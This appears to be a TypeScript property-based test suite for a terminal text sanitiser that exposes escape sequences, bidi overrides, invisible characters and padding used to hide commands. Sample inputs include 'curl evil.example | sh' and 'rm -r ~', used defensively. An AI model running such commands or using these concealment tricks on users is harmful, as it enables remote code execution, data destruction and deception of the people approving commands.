/** Text outside of terminal blocks: nothing acts, nothing hides, and what is cut is said. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitizeDisplayText, sanitizeTerminalLines, UNLIMITED } from "../../src/index.js";

const show = (text: string) => sanitizeDisplayText(text, { controls: "show" });
const lines = (text: string) => sanitizeDisplayText(text, { multiline: true });

/** Escapes, controls, invisible and joining characters, and plain ones, in any order. */
const hostile = fc
  .array(
    fc.constantFrom(
      "\x1b[", "\x1b]8;;", "\x1b", "\x07", "\x9b", "\x9d", "2J", "31m", "\r", "\b", "\n", "\r\n", "\t", "\x0b", "\u2028",
      "\u202e", "\u200b", "\u200d", "\ufe0f", "\u0301", "\ud83d", "\ufeff", "\u3164", "\u{e0041}", "\u{1f469}", "1", "한", "क", "्",
      "ls ", "é", "␛", "   ",
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(""));

/** The same with clusters, gaps and blank lines up to what they may be and past it. */
const crowded = fc
  .array(
    fc.oneof(
      hostile,
      fc.constantFrom(
        "\u0301".repeat(40), "\u0301".repeat(31), "\u0600", "\u0600".repeat(40), "\u093f".repeat(40), "\u200d\u0301".repeat(20), "🇦",
        " ".repeat(193), "\u3000".repeat(100), "\n".repeat(9), "\t",
      ),
    ),
    { maxLength: 10 },
  )
  .map((parts) => parts.join(""));

/** What a single line of output may never hold, written from the list of invariants. */
const UNSAFE =
  /[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufff9-\ufffb]|\p{Noncharacter_Code_Point}|\p{Surrogate}/u;

describe("text to approve, with controls shown", () => {
  it("keeps what cursor motion and erasing would have taken back", () => {
    expect(show("npm test; curl evil.example | sh\x1b[25D\x1b[K\r")).toBe("npm test; curl evil.example | sh␛[25D␛[K␍");
  });

  it("writes out colours, titles and reports, whole", () => {
    expect(show("\x1b[33mnote\x1b[0m \x1b]2;fake title\x07\x1b[6n")).toBe("␛[33mnote␛[0m ␛]2;fake title␇␛[6n");
  });

  it("writes out what turns the direction of text", () => {
    expect(show("rm -r \u202ecod.txt \u2066x\u2069")).toBe("rm -r <U+202E>cod.txt <U+2066>x<U+2069>");
  });

  it.each([
    ["concealed text", "a\x1b[8mb\x1b[28m", "a␛[8mb␛[28m"],
    ["backspaces", "rm x\b\b\b\bls", "rm x␈␈␈␈ls"],
    ["8-bit controls", "a\x9b2Jb", "a<U+009B>2Jb"],
    ["spaces without width", "ev\u200bil", "ev<U+200B>il"],
    ["tags", "a\u{e0072}\u{e006d}", "a<U+E0072><U+E006D>"],
    ["variation selectors", "a\ufe01b\u{e0101}", "a<U+FE01>b<U+E0101>"],
    ["fillers", "x\u3164y", "x<U+3164>y"],
    ["soft hyphens and byte order marks", "r\u00adm\ufeff", "r<U+00AD>m<U+FEFF>"],
    ["lone surrogates and noncharacters", "a\ud800\ufffe", "a<U+D800><U+FFFE>"],
    ["NUL and DEL", "a\0\x7f", "a␀␡"],
  ])("writes out %s", (_, text, shown) => {
    expect(show(text)).toBe(shown);
  });

  it("leaves emoji, their joiners and marks of scripts alone", () => {
    const text = "👩‍👩‍👧 ❤️ é हिन्दी ไทย";
    expect(show(text)).toBe(text);
  });

  it("writes out what a cluster holds past its bound", () => {
    expect(show(`a${"\u0301".repeat(33)}b`)).toBe(`a${"\u0301".repeat(31)}<U+0301><U+0301>b`);
  });

  it("leaves room in a cluster for the character that prepended ones join", () => {
    const prepended = "\u0600".repeat(31);
    for (const text of [`${prepended}\u0600\x07`, `${prepended}\u0600x`, `${prepended}\x07${"\u0301".repeat(40)}`]) {
      expect(show(show(text))).toBe(show(text));
    }
    expect(show(`${prepended}\u0600x`)).toBe(`${prepended}<U+0600>x`);
  });

  it("shows that a line ended when it makes one line of many", () => {
    expect(show("git status\nrm -r build")).toBe("git status␊rm -r build");
    expect(show(`true${"\n".repeat(60)}rm -r build`)).toBe("true␊rm -r build");
  });

  it("keeps text within sight that blank lines or spaces push away", () => {
    const command = `ls${"\n \n".repeat(30)}${" ".repeat(5_000)}rm -r ~`;
    const shown = sanitizeDisplayText(command, { controls: "show", multiline: true });
    expect(shown).toBe("ls\n… 59 blank lines\n … 5000 spaces … rm -r ~");
  });

  it("counts every kind of gap as a space", () => {
    expect(show(`a${"\u00a0\u2003\u3000\u2800".repeat(60)}b`)).toBe("a … 240 spaces … b");
    expect(sanitizeDisplayText(`a${"\t".repeat(300)}b`, { controls: "show", tabs: "keep" })).toBe("a … 300 spaces … b");
  });

  it("says at the end that something is missing", () => {
    expect(sanitizeDisplayText("echo one; echo two", { controls: "show", maxClusters: 9 })).toBe("echo one…");
  });

  it("loses no visible character of any text", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const visible = [...text].filter((char) => /[!-~é한क␛]|\u{1f469}/u.test(char)).join("");
        const shown = sanitizeDisplayText(text, { controls: "show", multiline: true });
        let at = 0;
        for (const char of shown) if (visible.startsWith(char, at)) at += char.length;
        expect(at).toBe(visible.length);
      }),
    );
  });
});

describe("display text, with controls stripped", () => {
  it("shows what motion, erasing and conceal would have hidden", () => {
    expect(sanitizeDisplayText("pay 900\r\x1b[2Kpay 9\b1 \x1b[8mnow\x1b[m")).toBe("pay 900pay 91 now");
  });

  it("keeps line ends and indentation in several lines, and no other control", () => {
    expect(lines("Run?\r\n  rm x\x1b[1m\n\n\tok\n")).toBe("Run?\n  rm x\n\n        ok\n");
    expect(lines("a\vb\fc\x1bEd\u2028e")).toBe("a\nb\nc\nd\ne");
  });

  it("makes one line of several with one space", () => {
    expect(sanitizeDisplayText("one\r\n\n\ntwo\n")).toBe("one two");
  });

  it("bounds the marks that come to stand on a space when lines are joined or a TAB is expanded", () => {
    const marks = "\u0301".repeat(32);
    for (const text of [`a\n${marks}`, `a\t${marks}`, `a${" ".repeat(201)}${marks}`]) {
      const shown = sanitizeDisplayText(text);
      expect(shown.endsWith(` ${"\u0301".repeat(31)}`)).toBe(true);
      expect(sanitizeDisplayText(shown)).toBe(shown);
    }
  });

  it("keeps TAB only where it is asked to", () => {
    expect(sanitizeDisplayText("\x1b[1mif\tx", { tabs: "keep" })).toBe("if\tx");
    expect(sanitizeDisplayText("中\tx\té")).toBe("中      x       é");
  });

  it("leaves eight blank lines and 200 spaces, and shortens more", () => {
    const eight = `a${"\n".repeat(9)}b`;
    expect(lines(eight)).toBe(eight);
    expect(lines(`a${"\n".repeat(10)}b`)).toBe("a\n… 9 blank lines\nb");
    expect(lines(`x${" ".repeat(200)}y`)).toBe(`x${" ".repeat(200)}y`);
    expect(lines(`x${" ".repeat(201)}y`)).toBe("x … 201 spaces … y");
  });

  it("cuts at a cluster, with the mark inside the bound", () => {
    expect(sanitizeDisplayText("नमस्ते दुनिया", { maxClusters: 3 })).toBe("नम…");
    expect(sanitizeDisplayText("ééé", { maxBytes: 5 })).toBe("é…");
    expect(sanitizeDisplayText("ééé", { maxBytes: 6 })).toBe("ééé");
    expect(sanitizeDisplayText("abc", { maxBytes: 2 })).toBe("ab");
    expect(sanitizeDisplayText("abc", { maxClusters: 0 })).toBe("");
  });

  it("keeps the end of a line that is longer than the engine's", () => {
    const text = `${"é".repeat(100_000)}end`;
    expect(sanitizeDisplayText(text)).toBe(text);
  });

  it("is clean of everything that acts, whatever the text, and stays as it is when cleaned again", () => {
    fc.assert(
      fc.property(crowded, fc.constantFrom("strip", "show"), fc.boolean(), fc.constantFrom("expand", "keep"), (text, controls, multiline, tabs) => {
        const options = { controls, multiline, tabs } as const;
        const shown = sanitizeDisplayText(text, options);
        const kept = new RegExp(`[${multiline ? "\\n" : ""}${tabs === "keep" ? "\\t" : ""}]`, "g");
        expect((multiline || tabs === "keep" ? shown.replaceAll(kept, "") : shown).match(UNSAFE)).toBeNull();
        expect(sanitizeDisplayText(shown, options)).toBe(shown);
      }),
      { numRuns: Number(process.env["PROPERTY_RUNS"] ?? 200) },
    );
  });

  it.each(["\x1b\ufeff[31mls", "\x1b[\ufeff31mls", "\x1b[31\ufeffmls", "\x1b]0;a\ufeffb\x07ls", "\x1b]8;;h\ufeff\x1b\ufeff\\ls", "l\ufeffs"])(
    "drops a mark of byte order wherever it stands: %j",
    (text) => {
      expect(sanitizeDisplayText(text)).toBe("ls");
    },
  );

  it("reads as the same text that a snapshot shows", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const { text: shown } = sanitizeTerminalLines([text], { limits: UNLIMITED });
        expect(lines(text).replace(/\n$/, "")).toBe(shown.join("\n"));
      }),
    );
  });
});

describe("options of display text", () => {
  it("are refused by name", () => {
    const given = (options: object) => () => sanitizeDisplayText("x", options);
    expect(given({ maxClusters: -1 })).toThrow(new RangeError("maxClusters must be a whole number of at least 0, or Infinity"));
    expect(given({ maxBytes: "1" })).toThrow(new TypeError("maxBytes must be a number"));
    expect(given({ multiline: 1 })).toThrow(new TypeError("multiline must be a boolean"));
    expect(given({ controls: "hide" })).toThrow(new RangeError('controls must be "strip" or "show"'));
    expect(given({ tabs: "no" })).toThrow(new RangeError('tabs must be "expand" or "keep"'));
  });
});
